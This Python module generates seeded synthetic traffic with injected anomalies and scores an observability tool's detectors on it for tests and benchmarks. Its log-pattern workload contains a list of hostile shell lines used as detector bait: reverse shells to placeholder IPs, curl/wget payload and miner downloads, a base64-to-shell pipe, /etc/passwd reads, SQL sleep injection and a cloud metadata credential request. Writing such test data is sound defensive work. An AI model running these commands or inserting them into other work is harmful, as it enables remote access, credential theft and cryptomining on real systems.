"""Synthetic traffic with injected anomalies, and the precision and recall of each detector on it.

Used by ``tests/observability/test_detectors.py`` (which asserts minimums) and
``benchmarks/bench_detect.py`` (which reports the numbers). Every workload is seeded, so a run
is reproducible. Each workload has a clean warm-up (no injections) per action, then normal
traffic with anomalies injected at a low rate:

- duration: log-normal run times (median 5-500 ms, sigma 0.1-0.5) with 2% benign 1.5-2.5x
  outliers; injected: 5-40x slow-downs (sleep injection, mining, exfiltration).
- shape: results with fixed and optional keys (optional ones 30% of the time, some nulls);
  injected: an extra key, a key whose type changes, or a different top-level type.
- output schema: actions declaring an ``output-schema``; injected: results violating it.
- error rate: steady error rates of 0-10%; injected: 30-activation episodes at 60-90% errors.
- invocation rate: Poisson arrivals (2-30 per 10 s bucket); injected: 3-bucket bursts at 5-10x.
- log patterns: realistic application log lines, with look-alikes (retry sleeps, URLs, base64
  images, "curl" in prose); injected: shell, download, reverse-shell, sensitive-file, base64
  to shell, sleep-injection, metadata and miner lines.

Scores: per activation for duration, shape, schema and log patterns; per episode for error and
invocation rate (an episode is found when the detector reports during it; a report outside
every episode is a false positive).
"""

from __future__ import annotations

import math
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final, final

from stockade.domain import JSON
from stockade.observability.anomaly import AnomalyMonitor, Observation
from stockade.observability.events import EventType

__all__ = ["WORKLOADS", "DetectorScore", "evaluate", "evaluate_all", "observations"]


@final
@dataclass(frozen=True, slots=True)
class DetectorScore:
    """True and false positives and negatives of one detector on one workload."""

    detector: str
    observations: int
    true_positives: int
    false_positives: int
    false_negatives: int

    @property
    def precision(self) -> float:
        """TP / (TP + FP); 1.0 when nothing was reported."""
        reported = self.true_positives + self.false_positives
        return self.true_positives / reported if reported else 1.0

    @property
    def recall(self) -> float:
        """TP / (TP + FN); 1.0 when nothing was injected."""
        injected = self.true_positives + self.false_negatives
        return self.true_positives / injected if injected else 1.0

    def __str__(self) -> str:
        return (
            f"{self.detector:<16} precision {self.precision:.3f}  recall {self.recall:.3f}  "
            f"(TP {self.true_positives}, FP {self.false_positives}, FN {self.false_negatives}, "
            f"{self.observations} activations)"
        )


@dataclass(slots=True)
class _Sample:
    obs: Observation
    label: int  # 0 normal, else the episode id (per-activation workloads: 1 per injection)


def _obs(action: str, n: int, t_ms: int, **kw: object) -> Observation:
    fields: dict[str, object] = {
        "namespace": "ns",
        "action": action,
        "version": "0.0.1",
        "activation_id": f"{action}-{n}",
        "time_ms": t_ms,
        "run_ms": 20,
        "is_error": False,
        "is_cold": False,
        "result": {"ok": True},
    }
    fields.update(kw)
    return Observation(**fields)  # type: ignore[arg-type]


# -- duration -----------------------------------------------------------------------------------


def _duration(rng: random.Random, actions: int, per_action: int, warmup: int) -> Iterator[_Sample]:
    for a in range(actions):
        median = math.exp(rng.uniform(math.log(5), math.log(500)))
        sigma = rng.uniform(0.1, 0.5)
        for n in range(per_action):
            run_ms = median * math.exp(rng.gauss(0, sigma))
            label = 0
            if n >= warmup and rng.random() < 0.01:
                run_ms = median * rng.uniform(5, 40)
                label = 1
            elif rng.random() < 0.02:
                run_ms *= rng.uniform(1.5, 2.5)
            yield _Sample(_obs(f"d{a}", n, n * 1000, run_ms=round(run_ms)), label)


# -- result shape and output schema -------------------------------------------------------------

_SCHEMA: Final[JSON] = {
    "type": "object",
    "properties": {"id": {"type": "integer"}, "name": {"type": "string"}, "total": {"type": "number"}},
    "required": ["id", "name"],
    "additionalProperties": False,
}


def _normal_result(rng: random.Random, a: int) -> dict[str, JSON]:
    result: dict[str, JSON] = {"id": rng.randrange(10**6), "name": f"item-{rng.randrange(100)}"}
    if a % 2:
        result["items"] = [rng.randrange(9) for _ in range(rng.randrange(4))]
    if rng.random() < 0.3:
        result["total"] = rng.uniform(0, 100)
    if rng.random() < 0.3:
        result["next"] = None if rng.random() < 0.5 else f"cursor-{rng.randrange(99)}"
    return result


def _shape(rng: random.Random, actions: int, per_action: int, warmup: int) -> Iterator[_Sample]:
    # Warm-up sees every optional key: 30 activations with 30% optional keys miss one with p < 1e-4.
    for a in range(actions):
        for n in range(per_action):
            result: JSON = _normal_result(rng, a)
            label = 0
            if n >= warmup and rng.random() < 0.01:
                label = 1
                kind = rng.randrange(3)
                assert isinstance(result, dict)
                if kind == 0:
                    result[rng.choice(["env", "debug", "stdout", "secrets", "raw"])] = "x" * rng.randrange(1, 50)
                elif kind == 1:
                    result["id"] = str(result["id"])
                else:
                    result = [result]
            yield _Sample(_obs(f"s{a}", n, n * 1000, result=result), label)


def _schema(rng: random.Random, actions: int, per_action: int, warmup: int) -> Iterator[_Sample]:
    for a in range(actions):
        for n in range(per_action):
            result: dict[str, JSON] = {"id": rng.randrange(10**6), "name": "x"}
            if rng.random() < 0.5:
                result["total"] = rng.uniform(0, 9)
            label = 0
            if rng.random() < 0.02:
                label = 1
                choice = rng.randrange(3)
                if choice == 0:
                    del result["name"]
                elif choice == 1:
                    result["id"] = "not-a-number"
                else:
                    result["leak"] = "AKIA..."
            yield _Sample(_obs(f"o{a}", n, n * 1000, result=result, output_schema=_SCHEMA), label)


# -- error rate ---------------------------------------------------------------------------------


def _errors(rng: random.Random, actions: int, per_action: int, warmup: int) -> Iterator[_Sample]:
    episode = 0
    for a in range(actions):
        base = rng.uniform(0.0, 0.1)
        spike_left = 0
        spike_rate = 0.0
        label = 0
        for n in range(per_action):
            if spike_left == 0 and n >= warmup and rng.random() < 1 / 600:
                episode += 1
                spike_left, spike_rate, label = 30, rng.uniform(0.6, 0.9), episode
            rate = spike_rate if spike_left else base
            is_error = rng.random() < rate
            yield _Sample(
                _obs(f"e{a}", n, n * 1000, is_error=is_error, result={"error": "x"} if is_error else {"ok": True}),
                label if spike_left else 0,
            )
            if spike_left:
                spike_left -= 1


# -- invocation rate ----------------------------------------------------------------------------


def _poisson(rng: random.Random, lam: float) -> int:
    # Knuth for small rates, normal approximation above (rates here stay below ~300).
    if lam < 30:
        limit, k, p = math.exp(-lam), 0, 1.0
        while True:
            p *= rng.random()
            if p <= limit:
                return k
            k += 1
    return max(0, round(rng.gauss(lam, math.sqrt(lam))))


def _rate(rng: random.Random, actions: int, per_action: int, warmup: int) -> Iterator[_Sample]:
    bucket_ms = 10_000
    episode = 0
    for a in range(actions):
        lam = rng.uniform(2, 30)
        buckets = max(per_action // 4, warmup + 50)
        burst_left, factor, label = 0, 1.0, 0
        n = 0
        for b in range(buckets):
            if burst_left == 0 and b >= warmup and rng.random() < 1 / 200:
                episode += 1
                burst_left, factor, label = 3, rng.uniform(5, 10), episode
            count = _poisson(rng, lam * (factor if burst_left else 1.0))
            for t in sorted(rng.randrange(bucket_ms) for _ in range(count)):
                yield _Sample(_obs(f"r{a}", n, b * bucket_ms + t), label if burst_left else 0)
                n += 1
            if burst_left:
                burst_left -= 1


# -- log patterns -------------------------------------------------------------------------------

_NORMAL_LINES: Final = (
    "processing order {n} for customer {c}",
    "GET /api/v1/items/{n} 200 in {n}ms",
    "retrying in 5 seconds; sleeping before the next attempt",
    "sleep 2s then poll again",
    "fetched https://api.example.com/v2/users/{n} status=200",
    "cache miss for key user:{n}; loading from database",
    'payload: {{"image": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"}}',
    "token refreshed for tenant {c}; expires in 3600s",
    "user {c} uploaded report-{n}.csv ({n} bytes)",
    "we use curl-compatible headers when calling the partner API",
    "password reset email sent to user {n}",
    "warning: slow query took {n} ms: SELECT * FROM orders WHERE id = $1",
    "parsed shell-like arguments: ['--verbose', '--limit', '{n}']",
    "connecting to db.internal:5432 (pool size 4)",
    "received webhook from github with signature sha256=ab12{n}",
    "/etc/app/config.yaml loaded (12 keys)",
    "nc_orders={n} processed; bash_size=12",
    "metadata updated for item {n}",
    "chmod applied to upload directory (0750)",
    "Traceback (most recent call last): ValueError: invalid literal for int() with base 10: 'x'",
)
_MALICIOUS_LINES: Final = (
    "sh -c 'id; uname -a'",
    '/bin/bash -c "cat /etc/passwd"',
    "running: curl -s http://203.0.113.{n}/x.sh -o /tmp/x",
    "wget http://198.51.100.{n}/miner -O /dev/shm/m",
    "root:x:0:0:root:/root:/bin/bash  (from /etc/passwd)",
    "echo ZWNobyBoZWxsbyB3b3JsZCB8IHNoIC1jIGlkICYmIHVuYW1lIC1hCg== | base64 -d | sh",
    "bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1",
    "nc -e /bin/sh 203.0.113.{n} 9001",
    "python -c 'import pty; pty.spawn(\"/bin/sh\")'",
    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.{n} 1234 > /tmp/f",
    "input was: abc'; sleep 10 #",
    "q=1' AND SLEEP(5)-- -",
    "GET http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "chmod +x /tmp/.x{n} && /tmp/.x{n}",
    "connecting to stratum+tcp://pool.example.net:3333",
    "reading /proc/self/environ",
)


def _logs(rng: random.Random, actions: int, per_action: int, warmup: int) -> Iterator[_Sample]:
    for a in range(actions):
        for n in range(per_action):
            lines = [
                "2026-01-01T00:00:00.000000Z stdout: "
                + rng.choice(_NORMAL_LINES).format(n=rng.randrange(10**4), c=rng.randrange(999))
                for _ in range(rng.randrange(1, 8))
            ]
            label = 0
            if rng.random() < 0.02:
                label = 1
                bad = rng.choice(_MALICIOUS_LINES).format(n=rng.randrange(1, 254))
                lines.insert(rng.randrange(len(lines) + 1), "2026-01-01T00:00:00.000000Z stderr: " + bad)
            yield _Sample(_obs(f"l{a}", n, n * 1000, logs=tuple(lines)), label)


@final
@dataclass(frozen=True, slots=True)
class _Workload:
    event: EventType
    generate: Callable[[random.Random, int, int, int], Iterator[_Sample]]
    episodes: bool


WORKLOADS: Final = {
    "duration": _Workload(EventType.ANOMALY_DURATION, _duration, False),
    "result_shape": _Workload(EventType.ANOMALY_RESULT_SHAPE, _shape, False),
    "output_schema": _Workload(EventType.ANOMALY_OUTPUT_SCHEMA, _schema, False),
    "error_rate": _Workload(EventType.ANOMALY_ERROR_RATE, _errors, True),
    "invocation_rate": _Workload(EventType.ANOMALY_INVOCATION_RATE, _rate, True),
    "log_pattern": _Workload(EventType.ANOMALY_LOG_PATTERN, _logs, False),
}


def observations(name: str, *, seed: int = 7, actions: int = 20, per_action: int = 1500) -> list[Observation]:
    """The observations of one workload (for the benchmark's overhead runs)."""
    workload = WORKLOADS[name]
    rng = random.Random(seed)  # noqa: S311 - seeded synthetic traffic, not a secret
    return [s.obs for s in workload.generate(rng, actions, per_action, 60)]


def evaluate(
    name: str,
    *,
    seed: int = 7,
    actions: int = 20,
    per_action: int = 1500,
    monitor: AnomalyMonitor | None = None,
) -> DetectorScore:
    """Run one workload through a fresh monitor (all detectors on) and score its detector."""
    workload = WORKLOADS[name]
    monitor = monitor or AnomalyMonitor()
    rng = random.Random(seed)  # noqa: S311 - seeded synthetic traffic, not a secret
    tp = fp = fn = 0
    count = 0
    episodes: set[int] = set()
    found: set[int] = set()
    for sample in workload.generate(rng, actions, per_action, 60):
        count += 1
        hit = any(a.type is workload.event for a in monitor.observe(sample.obs))
        if workload.episodes:
            if sample.label:
                episodes.add(sample.label)
            if hit and sample.label:
                if sample.label not in found:
                    found.add(sample.label)
                    tp += 1
            elif hit:
                fp += 1
        elif sample.label and hit:
            tp += 1
        elif sample.label:
            fn += 1
        elif hit:
            fp += 1
    if workload.episodes:
        fn = len(episodes - found)
    return DetectorScore(name, count, tp, fp, fn)


def evaluate_all(*, seed: int = 7, actions: int = 20, per_action: int = 1500) -> list[DetectorScore]:
    """Every workload's score."""
    return [evaluate(name, seed=seed, actions=actions, per_action=per_action) for name in WORKLOADS]
